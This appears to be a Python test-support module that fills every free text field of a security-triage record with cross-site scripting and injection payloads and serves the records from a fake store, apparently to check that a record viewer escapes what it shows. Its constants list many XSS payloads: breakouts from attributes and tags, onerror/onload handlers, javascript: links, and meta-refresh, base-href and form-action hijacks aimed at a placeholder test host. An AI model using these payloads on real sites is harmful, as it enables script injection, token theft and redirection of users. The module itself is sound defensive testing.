"""A record in which every free word is an attempt, for whoever shows records.

The attempts are `tests.payloads` (markup, attributes, Markdown, formulas, escape codes, unseen characters, paths, each
in every wrapping) and the grammar below, which is about leaving the very places that the page puts text into:

    attempt  = way out , act ;
    way out  = what closes an attribute, an element, a comment, a script, a style, a text area, a title or an SVG ;
    act      = an element that runs, loads or leads away by itself, or an attribute that does once it is touched ;
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Final

from responder.ports import RecordLine, RecordQuery, Rejected
from responder.record import Record, Severity
from tests.payloads import MARK, PAYLOADS

_WAYS_OUT: Final = (
    "", '"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</pre>", "</svg>",
    "</select>", "</details>", "</code></p>", '\\">', "&quot;>", "%22%3E", '\u2028">', '\x00">', "{{", "{% raw %}",
)  # fmt: skip
_ACTS: Final = (
    f"<script src=//{MARK}.test/a.js></script>",
    f"<img src=//{MARK}.test/a.png onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    f"<link rel=preload as=script href=//{MARK}.test/a.js>",
    f"<style>*{{background:url(//{MARK}.test/a)}}</style>",
    f"<form action=//{MARK}.test><input name=token><button autofocus>x",
    f"<input type=image src=//{MARK}.test/a formaction=//{MARK}.test>",
    "<template><script>alert(1)</script></template>",
    f"<iframe src=//{MARK}.test></iframe>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.test'>",
    f"<base href=//{MARK}.test/>",
    f"<a id=main name=body href='javascript:alert(1)' ping=//{MARK}.test>x</a>",
    "<x contenteditable onblur=alert(1) tabindex=1 id=review>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    " autofocus onfocus=alert(1) x=",
    " style=animation-name:x onanimationstart=alert(1) x=",
    " onmouseover=alert(1) onclick=alert(1) x=",
    f" href=//{MARK}.test target=_self x=",
    "__proto__ constructor self.__class__.__mro__ }}",
)
ATTEMPTS: Final = tuple(dict.fromkeys((*PAYLOADS, *(way + act for way in _WAYS_OUT for act in _ACTS))))
_TIME: Final = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[.\d]*Z")
_OURS: Final = frozenset({"id", "schema"})


def poisoned(record: Record, attempts: Iterator[str]) -> Record:
    """The record with an attempt in the place of each word that is not one of a fixed few, a time, or its id."""
    fixed = frozenset(_fixed(Record.model_json_schema()))

    def changed(value: Any, *, top: bool = False) -> Any:
        if isinstance(value, dict):
            return {name: item if top and name in _OURS else changed(item) for name, item in value.items()}
        if isinstance(value, list):
            return [changed(item) for item in value]
        if isinstance(value, str) and value not in fixed and not _TIME.fullmatch(value):
            return next(attempts)
        return value

    document = record.model_dump(mode="json")
    # Links have names of ours, and whatever address a store may hold.
    return Record.model_validate(changed(document, top=True))


def _fixed(schema: Any) -> Iterator[str]:
    if isinstance(schema, dict):
        yield from (one for one in (*schema.get("enum", ()), schema.get("const")) if isinstance(one, str))
        for item in schema.values():
            yield from _fixed(item)
    elif isinstance(schema, list):
        for item in schema:
            yield from _fixed(item)


@dataclass
class Held:
    """A record store that gives out exactly what it holds: none of its words passes a database first."""

    records: dict[str, Record]
    rejects: tuple[Rejected, ...] = ()
    counts: dict[str, int] = field(default_factory=dict)

    def list(self, query: RecordQuery) -> Iterator[RecordLine]:
        severities: tuple[Severity, ...] = ("LOW", "CRITICAL")
        for number, record in enumerate(list(self.records.values())[: query.limit]):
            yield RecordLine(
                id=record.id, window_start=record.provenance.window_start, subject=record.provenance.subject,
                verdict=record.triage.verdict, state="open", summary=record.triage.summary, findings=1, gaps=1,
                stage="finished", revision=1, severity=severities[number % 2], workload=record.provenance.traits.owner,
            )  # fmt: skip

    def load(self, record_id: str) -> Record | None:
        return self.records.get(record_id)

    def rejected(self, limit: int = 50) -> tuple[Rejected, ...]:
        return self.rejects[:limit]

    def counters(self) -> dict[str, int]:
        return self.counts

    def due(self, _now: object, _limit: int = 100) -> tuple[RecordLine, ...]:
        return ()
